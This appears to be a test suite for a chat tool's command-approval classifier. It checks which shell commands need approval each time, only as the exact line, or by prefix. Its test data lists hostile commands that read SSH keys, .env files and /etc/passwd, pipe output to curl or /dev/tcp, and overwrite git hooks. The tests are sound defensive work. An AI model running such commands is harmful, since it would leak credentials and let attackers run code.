import assert from 'node:assert/strict';
import { readCommandLine } from '../../../../../../src/core/chat/tools/commands/command-line.ts';
import { programName } from '../../../../../../src/core/chat/tools/commands/programs.ts';
import { namesFile, reachOf } from '../../../../../../src/core/chat/tools/commands/reach.ts';

const reach = (line: string): string => {
  const found = reachOf(readCommandLine(line, 'posix'));
  return found.kind === 'prefix' ? `prefix of ${found.fewest}` : found.kind;
};

describe('what can be allowed of a command', () => {
  for (const line of [
    'curl example.org',
    '/usr/bin/curl example.org',
    'CURL example.org',
    'curl.exe example.org',
    'wget x',
    'ssh host',
    'scp a b',
    'nc host 80',
    'git push',
    'git push --force',
    'git -C a push',
    'git fetch origin',
    'git clone x',
    'git remote add a b',
    'npm publish',
    'npm --registry x publish',
    'cargo publish',
    'twine upload x',
    'docker push x',
    'gh pr create',
    'sudo ls',
    'sudo -u a rm x',
    'env curl x',
    `bash -c 'curl x'`,
    `sh -c 'cd a;git push'`,
    `sh -c 'cat ~/.ssh/id_rsa'`,
    `sh -c 'cat ../x'`,
    `bash -c 'cat x > /dev/tcp/host/80'`,
    'openssl s_client -connect host:443',
    'timeout 5 curl x',
    'xargs curl',
    'npm test | curl -d @- x',
    'pipenv run curl x',
    'pdm run wget x',
    'pixi run ssh host x',
    'uv run curl x',
    'poetry run twine upload x',
    'npm exec curl x',
    'pnpm dlx vercel x',
    'xvfb-run curl x',
    'xvfb-run npm publish',
    'dotenv npm publish',
    'doppler run curl x',
    'systemd-run curl x',
    'foo --cmd=curl x',
    `foo 'git push'`,
    `foo bar sh -c 'cat /etc/passwd'`,
    'node cross-env.js curl x',
    'jj git push',
    'hg push x',
    'changeset publish',
    'git-push origin',
    'cat .env',
    'cat config/.env.local',
    'cat .ssh/id_rsa',
    'cp a .git/hooks/pre-commit',
    'cp a .vscode/tasks.json',
    'tee .git/hooks/pre-commit',
    'rm -rf .git',
    'git show HEAD:.env',
    'cat /etc/passwd',
    'cat ../x',
    'cat a/../../x',
    'ls --file=/etc/passwd',
    'gcc -I/usr/include',
    'make DESTDIR=/usr/local',
    'npm install https://example.org/x.tgz',
    'node C:/x.js',
    'npm test $X',
    'npm test > out',
    'A=b npm test',
  ]) {
    it(`is nothing, so that it is asked every time: ${line}`, () => assert.equal(reach(line), 'once'));
  }

  for (const line of [
    `sh -c 'npm test'`,
    'bash build.sh',
    `node -e 'x'`,
    'node --eval x',
    `python -c 'x'`,
    `python3.12 -c 'x'`,
    'python -m pip list',
    'python -m http.server',
    `perl -e 'x'`,
    'npx mocha',
    'npm exec mocha',
    'npm install left-pad',
    'npm run',
    'npm run --silent build',
    'npm --prefix a test',
    'yarn dlx x',
    'pnpm dlx x',
    'xargs rm',
    'env npm test',
    'find . -exec rm a',
    'find . -delete',
    'fd -x rm',
    'git -c core.pager=x log',
    'git -C a status',
    'git reset --hard',
    'git clean -fd',
    'git checkout main',
    'git commit -m x',
    'git diff --ext-diff',
    'rm x',
    'rm -rf src',
    '/bin/rm x',
    'mv a b',
    'cp a b',
    'ln -s a b',
    'chmod +x a',
    'tee a',
    'sed -i s/a/b/ x',
    `awk 'x' a`,
    'docker run x',
    'eval ls',
    'source a',
    '. a',
    'export A=b',
    'cd src',
    'watch ls',
    'npm test && rm x',
    'npm test; ls',
    'npm test 2>&1 | tail -20',
    'make',
    'make -f x',
    'make test',
    './gradlew test',
    'tsc --noEmit',
    'black src',
    'pipenv run pytest',
    'pipenv run rm x',
    'pdm run sh x.sh',
    'uv run pytest',
    'xvfb-run npm test',
    'dotenv npm test',
    'adb shell ls',
    'foo exec bar',
    `foo bar 'rm x'`,
    'node x.js rm y',
    'deno test jsr:@a/b',
    'deno test npm:a',
    'npm start',
    'next start',
    `git commit -m 'Open the host'`,
    'constructor',
    'npm constructor',
  ]) {
    it(`is the exact line: ${line}`, () => assert.equal(reach(line), 'exact'));
  }

  for (const [line, fewest] of [
    ['npm test', 2],
    ['npm run build', 3],
    ['npm run push', 3],
    ['git status', 2],
    ['git diff src', 2],
    ['cargo test', 2],
    ['go test ./...', 2],
    ['python -m pytest tests', 3],
    ['python3 -m pytest', 3],
    ['python check.py', 2],
    ['node test.js', 2],
    ['./run-tests fast', 2],
    ['pytest', 1],
    ['pytest tests/a.py::test_b', 1],
    ['grep curl src', 1],
    ['npm run test:unit', 3],
    ['cargo build', 2],
    ['deno test src', 2],
    ['vite build', 2],
    ['python manage.py test', 2],
    ['ls -la', 1],
    ['rg -n needle src', 1],
    ['jq .name package.json', 2],
    ['git show main:src/a.ts', 2],
  ] as const) {
    it(`is a prefix of at least ${fewest}: ${line}`, () => assert.equal(reach(line), `prefix of ${fewest}`));
  }

  it('does not depend on how a program is written', () => {
    assert.deepEqual(['C:\\bin\\Node.EXE', './a/python3.12', 'perl5', 'mocha', 'md5sum'].map(programName), [
      'node',
      'python',
      'perl',
      'mocha',
      'md5sum',
    ]);
  });

  it('knows which files its words name', () => {
    const names = (line: string, path: string): boolean => {
      const commands = readCommandLine(line, 'posix');
      return commands !== null && namesFile(commands, path);
    };
    assert.equal(names('node scripts/check.js', '/w/scripts/check.js'), true);
    assert.equal(names('node ./scripts/Check.js', '/w/scripts/check.js'), true);
    assert.equal(names('./run-tests fast', 'run-tests'), true);
    assert.equal(names('node scripts/check.js', '/w/other/check.js'), false);
    assert.equal(names('node .', '/w/other/check.js'), false);
    assert.equal(names('npm test', '/w/npm.js'), true);
  });
});
